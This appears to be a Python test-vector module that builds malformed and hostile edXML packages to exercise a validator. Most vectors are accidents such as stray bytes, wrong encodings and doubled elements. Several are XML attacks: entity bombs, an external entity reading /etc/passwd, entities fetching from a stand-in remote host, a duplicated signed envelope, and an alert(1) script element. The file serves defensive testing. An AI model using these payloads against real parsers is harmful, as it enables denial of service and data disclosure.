"""Attacks and accidents in the bytes, the XML and the skeleton."""

from __future__ import annotations

import re
import zlib

from tests.vectors.making.edits import (
    before,
    before_end,
    doubled,
    fill,
    swap,
)
from tests.vectors.making.vector import attack


def _with_doctype(data: bytes, inside: str) -> bytes:
    return swap(data, "?>\n", f"?>\n<!DOCTYPE edXML [{inside}]>\n")


@attack("E-XML-DTD")
def entity_bomb(data: bytes) -> bytes:
    """Ten entities of ten entities each (billion laughs), used in the subject."""
    start = '<!ENTITY a0 "ha">'
    rest = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return fill(_with_doctype(data, start + rest), "Subject", "&a9;")


@attack("E-XML-DTD")
def entity_bomb_flat(data: bytes) -> bytes:
    """One long entity used a thousand times (quadratic blow-up)."""
    return fill(_with_doctype(data, f'<!ENTITY a "{"ha" * 500}">'), "Subject", "&a;" * 1000)


@attack("E-XML-DTD")
def external_entity(data: bytes) -> bytes:
    """An entity that reads a file of the machine: the official parser would."""
    data = _with_doctype(data, '<!ENTITY a SYSTEM "file:///etc/passwd">')
    return fill(data, "Subject", "&a;")


@attack("E-XML-DTD")
def external_entity_by_network(data: bytes) -> bytes:
    """An entity and a parameter entity that call home."""
    home = "http://noi-la.example.invalid"
    inside = f'<!ENTITY % p SYSTEM "{home}/p.dtd">%p;<!ENTITY a SYSTEM "{home}/a">'
    return fill(_with_doctype(data, inside), "Subject", "&a;")


@attack("E-XML-DTD")
def external_document_type(data: bytes) -> bytes:
    """A document type that is to be fetched, behind a comment."""
    home = "http://noi-la.example.invalid/edxml.dtd"
    return swap(data, "?>\n", f'?>\n<!-- -->\n<!DOCTYPE edXML SYSTEM "{home}">\n')


@attack("E-XML-DTD", "W-XML-ENCODING")
def entity_in_another_encoding(data: bytes) -> bytes:
    """The bomb in UTF-16, so that a search for DOCTYPE in the bytes finds nothing."""
    bomb = swap(entity_bomb(data), 'encoding="UTF-8"', 'encoding="UTF-16"')
    return bomb.decode().encode("utf-16")[:2] + bomb.decode().encode("utf-16-le")


@attack("E-XML-SYNTAX")
def undeclared_entity(data: bytes) -> bytes:
    """An entity of HTML that XML does not know."""
    return fill(data, "Subject", "V/v&nbsp;diễn tập")


@attack("E-XML-SYNTAX")
def zero_character(data: bytes) -> bytes:
    """The character zero by its number."""
    return fill(data, "Subject", "V/v&#0;diễn tập")


@attack("E-XML-SYNTAX")
def crossed_tags(data: bytes) -> bytes:
    """Tags that cross, from a template with a slip."""
    return swap(data, "</edXML:Subject>", "</edXML:Content>")


@attack("E-XML-SYNTAX")
def html_instead(data: bytes) -> bytes:
    """The error page of a proxy in the place of a package, cut off."""
    return b"<html><head><title>502 Bad Gateway</title></head><body><hr>"


@attack("E-XML-ROOT")
def json_instead(data: bytes) -> bytes:
    """A JSON answer in the place of a package."""
    return b'{"status":"FAIL","ErrorDesc":"mo phong"}\n'


@attack("E-XML-JUNK")
def blank_lines_before_the_declaration(data: bytes) -> bytes:
    """Two empty lines before the declaration: a template engine's."""
    return b"\n\n" + data


@attack("E-XML-JUNK")
def digits_before_the_root(data: bytes) -> bytes:
    """Four digits in front of the root of a package without a declaration."""
    return b"1212" + data.partition(b"?>\n")[2]


@attack("E-XML-JUNK")
def log_line_before_the_declaration(data: bytes) -> bytes:
    """A line of a log in front, with a character of markup in it."""
    return b"size < 1 MB\n" + data


@attack("E-XML-JUNK")
def comment_before_the_declaration(data: bytes) -> bytes:
    """A comment in front of the declaration, which then is none any more."""
    return b"<!-- mau -->\n" + data


@attack("W-XML-ENCODING")
def ascii_only_said(data: bytes) -> bytes:
    """Vietnamese letters in UTF-8 in a file that says it is ASCII."""
    return swap(data, 'encoding="UTF-8"', 'encoding="us-ascii"')


@attack("E-XML-ENCODING")
def unknown_encoding(data: bytes) -> bytes:
    """A declaration of an encoding that readers need not know."""
    return swap(data, 'encoding="UTF-8"', 'encoding="x-viet-tcvn5712"')


@attack("W-XML-ENCODING")
def utf16_big_endian(data: bytes) -> bytes:
    """UTF-16 with the large byte first, without a byte order mark."""
    return swap(data, 'encoding="UTF-8"', 'encoding="UTF-16"').decode().encode("utf-16-be")


@attack("W-XML-ENCODING")
def utf16_only_said(data: bytes) -> bytes:
    """UTF-8 that says it is UTF-16: .NET's StringWriter, then a file in UTF-8."""
    return swap(data, 'encoding="UTF-8"', 'encoding="utf-16"')


@attack("E-SKELETON-TWICE")
def second_envelope(data: bytes) -> bytes:
    """A second envelope behind the first: what is signed and what is read differ."""
    return doubled(data, "edXMLEnvelope")


@attack("E-SKELETON-TWICE")
def second_list_of_files(data: bytes) -> bytes:
    """A second AttachmentEncoded: one reader stores the first, another the last."""
    return doubled(data, "AttachmentEncoded")


@attack("W-ELEMENT-UNKNOWN")
def foreign_elements(data: bytes) -> bytes:
    """Elements of another vocabulary inside the header: one is ours by its prefix."""
    return before_end(
        data,
        "edXML:MessageHeader",
        '<x:Script xmlns:x="urn:noi-la">alert(1)</x:Script><edXML:Script>1</edXML:Script>',
    )


@attack("W-ELEMENT-UNKNOWN")
def markup_in_a_text(data: bytes) -> bytes:
    """An element inside the subject, from a rich text editor: readers stop in front of it."""
    return fill(data, "Subject", "V/v <edXML:b>diễn tập</edXML:b>")


@attack("W-ELEMENT-UNKNOWN")
def foreign_markup_in_a_text(data: bytes) -> bytes:
    """The same with an element of another vocabulary."""
    return fill(data, "Subject", 'V/v <x:b xmlns:x="urn:noi-la">diễn tập</x:b>')


@attack("E-XML-ROOT")
def packed_package(data: bytes) -> bytes:
    """The whole package in gzip, without the header that would say so."""
    machine = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    packed = machine.compress(data) + machine.flush()
    end = zlib.crc32(data).to_bytes(4, "little") + len(data).to_bytes(4, "little")
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + packed + end


@attack("E-XML-SYNTAX")
def two_packages(data: bytes) -> bytes:
    """Two packages one after the other: a file opened to append."""
    return data + data


@attack("E-ENVELOPE")
def soap_instead(data: bytes) -> bytes:
    """A SOAP envelope in the place of edXML's."""
    home = "http://schemas.xmlsoap.org/soap/envelope/"
    return f'<soap:Envelope xmlns:soap="{home}"><soap:Body/></soap:Envelope>'.encode()


@attack("E-ENVELOPE")
def no_namespace(data: bytes) -> bytes:
    """No namespace and no prefix anywhere: the official parser ends with null."""
    data = data.replace(b"<edXML:", b"<").replace(b"</edXML:", b"</")
    return re.sub(rb' xmlns(:edXML)?="[^"]*"', b"", data)


@attack("W-ELEMENT-UNKNOWN", "W-ELEMENT-TWICE")
def flood_of_unknown_elements(data: bytes) -> bytes:
    """Thirty elements that nobody knows in front of a second subject, which must be told too."""
    unknown = "".join(f"<edXML:Khac{number}/>" for number in range(30))
    return before(doubled(data, "Subject"), "From", unknown)
